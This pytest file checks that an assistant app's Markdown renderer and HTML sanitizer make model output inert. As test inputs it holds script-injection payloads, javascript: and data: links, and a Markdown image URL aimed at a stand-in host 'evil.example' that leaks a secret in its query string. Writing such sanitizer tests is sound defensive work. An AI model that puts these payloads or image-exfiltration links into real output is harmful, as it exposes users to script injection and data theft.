"""Markdown of model output on the server: hostile text stays inert, ordinary Markdown renders.

The corpora here are shared with tests/browser/test_markdown.py, which checks that the
browser's renderer gives the same HTML for each.
"""

from __future__ import annotations

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from assistant.rendering import render_markdown, sanitize_html
from tests.helpers.markup import HOSTILE, LINK_REL, RAW_HTML, WELL_FORMED, assert_inert, elements


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_render_markdown_hostile_text_is_inert(text):
    assert_inert(render_markdown(text))


@pytest.mark.parametrize("text", WELL_FORMED.values(), ids=WELL_FORMED.keys())
def test_render_markdown_well_formed_text_is_allowed_markup_only(text):
    assert_inert(render_markdown(text))


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_sanitize_html_alone_makes_raw_hostile_html_inert(html):
    assert_inert(sanitize_html(html))


@pytest.mark.parametrize("html", RAW_HTML.values(), ids=RAW_HTML.keys())
def test_sanitize_html_alone_keeps_only_the_allowlist(html):
    assert_inert(sanitize_html(html))


def test_sanitize_html_forces_rel_and_target_and_drops_other_links():
    assert sanitize_html(RAW_HTML["a_javascript"]) == (
        '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )
    assert elements(sanitize_html(RAW_HTML["a_relative_with_extras"])) == [
        ("a", {"class": "image-link", "target": "_blank", "rel": "noopener noreferrer nofollow"})
    ]
    assert sanitize_html(RAW_HTML["ol_start"]) == '<ol start="3"><li>x</li></ol>'


def test_render_markdown_returns_a_safe_string():
    assert isinstance(render_markdown("*x*"), SafeString)


def test_render_markdown_raw_html_is_shown_as_text():
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    assert "&lt;img src=x onerror=alert(1)&gt;" in render_markdown("<img src=x onerror=alert(1)>")


@pytest.mark.parametrize(
    "key", ["md_javascript", "md_javascript_mixed_case", "md_vbscript", "md_data_link", "md_file_link"]
)
def test_render_markdown_link_with_other_scheme_stays_plain_text(key):
    html = render_markdown(HOSTILE[key])
    assert "<a" not in html
    assert HOSTILE[key].split("(")[0] in html  # the "[x]" is still there to read


def test_render_markdown_link_obfuscated_scheme_stays_plain_text():
    assert render_markdown("[x](java&#x09;script:alert(1))") == "<p>[x](java\tscript:alert(1))</p>\n"
    assert "<a" not in render_markdown("<javascript:alert(1)>")
    assert "<a" not in render_markdown("[x][evil]\n\n[evil]: javascript:alert(1)")
    assert "<a" not in render_markdown(HOSTILE["md_relative"])
    assert "<a" not in render_markdown(HOSTILE["md_protocol_relative"])


def test_render_markdown_image_becomes_a_link_that_loads_nothing():
    html = render_markdown("![Quartalszahlen](https://evil.example/leak?d=secret)")
    assert html == (
        '<p><a href="https://evil.example/leak?d=secret" class="image-link" target="_blank"'
        ' rel="noopener noreferrer nofollow">Quartalszahlen</a></p>\n'
    )


def test_render_markdown_image_without_alt_reads_as_its_address():
    html = render_markdown("![](https://evil.example/a.png)")
    assert ">https://evil.example/a.png</a>" in html


def test_render_markdown_image_inside_link_is_its_alt_text():
    html = render_markdown("[![badge](https://evil.example/a.png)](https://ok.example)")
    assert html == (
        '<p><a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">badge</a></p>\n'
    )


def test_render_markdown_image_description_is_its_plain_text():
    html = render_markdown(WELL_FORMED["image_description"])
    assert ">a b &amp; [c] d</a>" in html


def test_render_markdown_empty_link_is_its_text():
    # An empty reference definition is no definition: "[ref][r]" stays as written.
    assert render_markdown(WELL_FORMED["empty_links"]) == (
        "<p>leer und Bild und [ref][r]</p>\n<p>[r]: &lt;&gt;</p>\n"
    )


def test_render_markdown_data_image_stays_plain_text():
    assert "<a" not in render_markdown(HOSTILE["image_data_svg"])
    assert "<a" not in render_markdown(HOSTILE["image_data_png"])


def test_render_markdown_sse_shaped_text_stays_text():
    html = render_markdown(HOSTILE["sse_fields"])
    assert html == "<p>event: done<br>\ndata: {}</p>\n<p>id: 9<br>\nretry: 1</p>\n"


def test_render_markdown_nul_and_cr_are_normalised():
    html = render_markdown("a\0b\rc\r\nd")
    assert "\0" not in html
    assert "\r" not in html
    assert html == "<p>a\ufffdb<br>\nc<br>\nd</p>\n"


def test_render_markdown_table_alignment_is_a_class():
    html = render_markdown(WELL_FORMED["table"])
    assert '<th class="align-left">Name</th>' in html
    assert '<th class="align-center">Menge</th>' in html
    assert '<td class="align-right">4,99 €</td>' in html
    assert "<thead>" in html
    assert "<tbody>" in html
    assert "style" not in html


def test_render_markdown_lists_nest_and_keep_their_start():
    html = render_markdown(WELL_FORMED["lists"])
    assert "<ul>\n<li>eins</li>\n<li>zwei\n<ul>\n<li>drei</li>\n</ul>\n</li>\n</ul>" in html
    assert '<ol start="3">' in html


def test_render_markdown_code_fence_keeps_a_plain_language_class():
    html = render_markdown(WELL_FORMED["code_fence"])
    assert html == (
        '<pre><code class="language-python">def grüße(name: str) -&gt; str:\n'
        '    return f"Hallo {name} &lt;3"\n</code></pre>\n'
    )
    assert '<code class="language-c++">' in render_markdown(WELL_FORMED["code_fence_cpp"])
    assert '<code class="language-python">' in render_markdown(HOSTILE["fence_info_class"])


def test_render_markdown_code_fence_drops_an_odd_language_name():
    html = render_markdown(HOSTILE["fence_info_injection"])
    assert html == "<pre><code>x\n</code></pre>\n"


def test_render_markdown_unclosed_fence_runs_to_the_end():
    html = render_markdown(WELL_FORMED["unclosed_fence"])
    assert html.endswith('<pre><code class="language-js">const a = 1;\nconst b = 2;</code></pre>\n')


def test_render_markdown_code_span_after_an_open_bracket():
    assert render_markdown(WELL_FORMED["code_span_after_bracket"]) == "<p>[foo <code>bar</code> baz`</p>\n"


def test_render_markdown_emphasis_and_headings():
    html = render_markdown(WELL_FORMED["emphasis"])
    assert "<em>kursiv</em>" in html
    assert "<strong>fett</strong>" in html
    assert "<s>durch</s>" in html
    headings = render_markdown(WELL_FORMED["headings"])
    for level in range(1, 7):
        assert f"<h{level}>" in headings


def test_render_markdown_links_open_in_a_new_tab_without_referrer():
    html = render_markdown(WELL_FORMED["links"])
    assert (
        '<a href="https://docs.example/path?q=1&amp;r=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">Docs</a>' in html
    )
    assert '<a href="mailto:mail@example.com" target="_blank"' in html
    assert html.count(f'rel="{LINK_REL}"') == 4


def test_render_markdown_link_title_is_dropped():
    html = render_markdown('[x](https://ok.example "Titel")')
    assert "title" not in html


def test_render_markdown_blockquote_and_breaks():
    assert render_markdown(WELL_FORMED["blockquote"]) == (
        "<blockquote>\n<p>Zitat mit <em>Betonung</em></p>\n<p>zweiter Absatz</p>\n</blockquote>\n"
    )
    assert render_markdown(WELL_FORMED["hr_and_breaks"]) == (
        "<p>erste Zeile<br>\nzweite Zeile</p>\n<hr>\n<p>nach der Linie</p>\n"
    )


def test_render_markdown_keeps_umlauts_and_emoji():
    html = render_markdown(WELL_FORMED["umlauts_and_emoji"])
    assert html == "<p>Grüße aus Köln: äöüß ÄÖÜ 😀👍🏽 — «quotes» “typographic” 日本語</p>\n"


def test_render_markdown_empty_text():
    assert render_markdown("") == ""
    assert render_markdown("   \n\n") == ""


def test_markdown_filter_renders_in_templates():
    template = Template("{% load assistant_markdown %}<div>{{ text|markdown }}</div>")
    html = template.render(Context({"text": "**fett** <script>x</script>"}))
    assert html == "<div><p><strong>fett</strong> &lt;script&gt;x&lt;/script&gt;</p>\n</div>"


def test_markdown_filter_treats_none_as_empty():
    template = Template("{% load assistant_markdown %}{{ text|markdown }}")
    assert template.render(Context({"text": None})) == ""


# --- an answer's HTML, stored at its end --------------------------------------------------------


@pytest.mark.django_db
def test_an_answer_renders_from_its_stored_html_while_text_and_renderer_match(alice, monkeypatch):
    from assistant import rendering
    from assistant.models import Conversation, Message

    text = "**fett** und <script>alert(1)</script>"
    conversation = Conversation.objects.create(owner=alice)
    answer = Message.objects.create(
        conversation=conversation, role="assistant", content=text, **rendering.rendered_fields(text)
    )
    assert "<strong>fett</strong>" in answer.html
    assert_inert(answer.html)
    rendered = []
    monkeypatch.setattr(rendering, "render_markdown", lambda t: rendered.append(t) or SafeString(t))

    assert rendering.answer_html(answer) == answer.html
    assert rendered == []
    answer.content = text + " mehr"  # the text changed since (a continuation stored elsewhere)
    rendering.answer_html(answer)
    monkeypatch.setattr(rendering, "RENDERER_VERSION", "changed")
    answer.content = text
    rendering.answer_html(answer)
    answer.html_key = ""  # an answer from before stored HTML
    rendering.answer_html(answer)
    assert rendered == [text + " mehr", text, text]


def test_the_page_shows_a_stored_answer_without_rendering_it(alice_client, alice, monkeypatch):
    from django.urls import reverse

    from assistant import rendering
    from assistant.models import Conversation, Message

    conversation = Conversation.objects.create(owner=alice)
    Message.objects.create(conversation=conversation, role="user", content="Frage")
    Message.objects.create(
        conversation=conversation,
        role="assistant",
        content="*kursiv*",
        **rendering.rendered_fields("*kursiv*"),
    )
    monkeypatch.setattr(rendering, "render_markdown", lambda text: pytest.fail(f"rendered {text!r} again"))

    page = alice_client.get(reverse("conversation", args=[conversation.pk]))

    assert "<em>kursiv</em>" in page.content.decode()
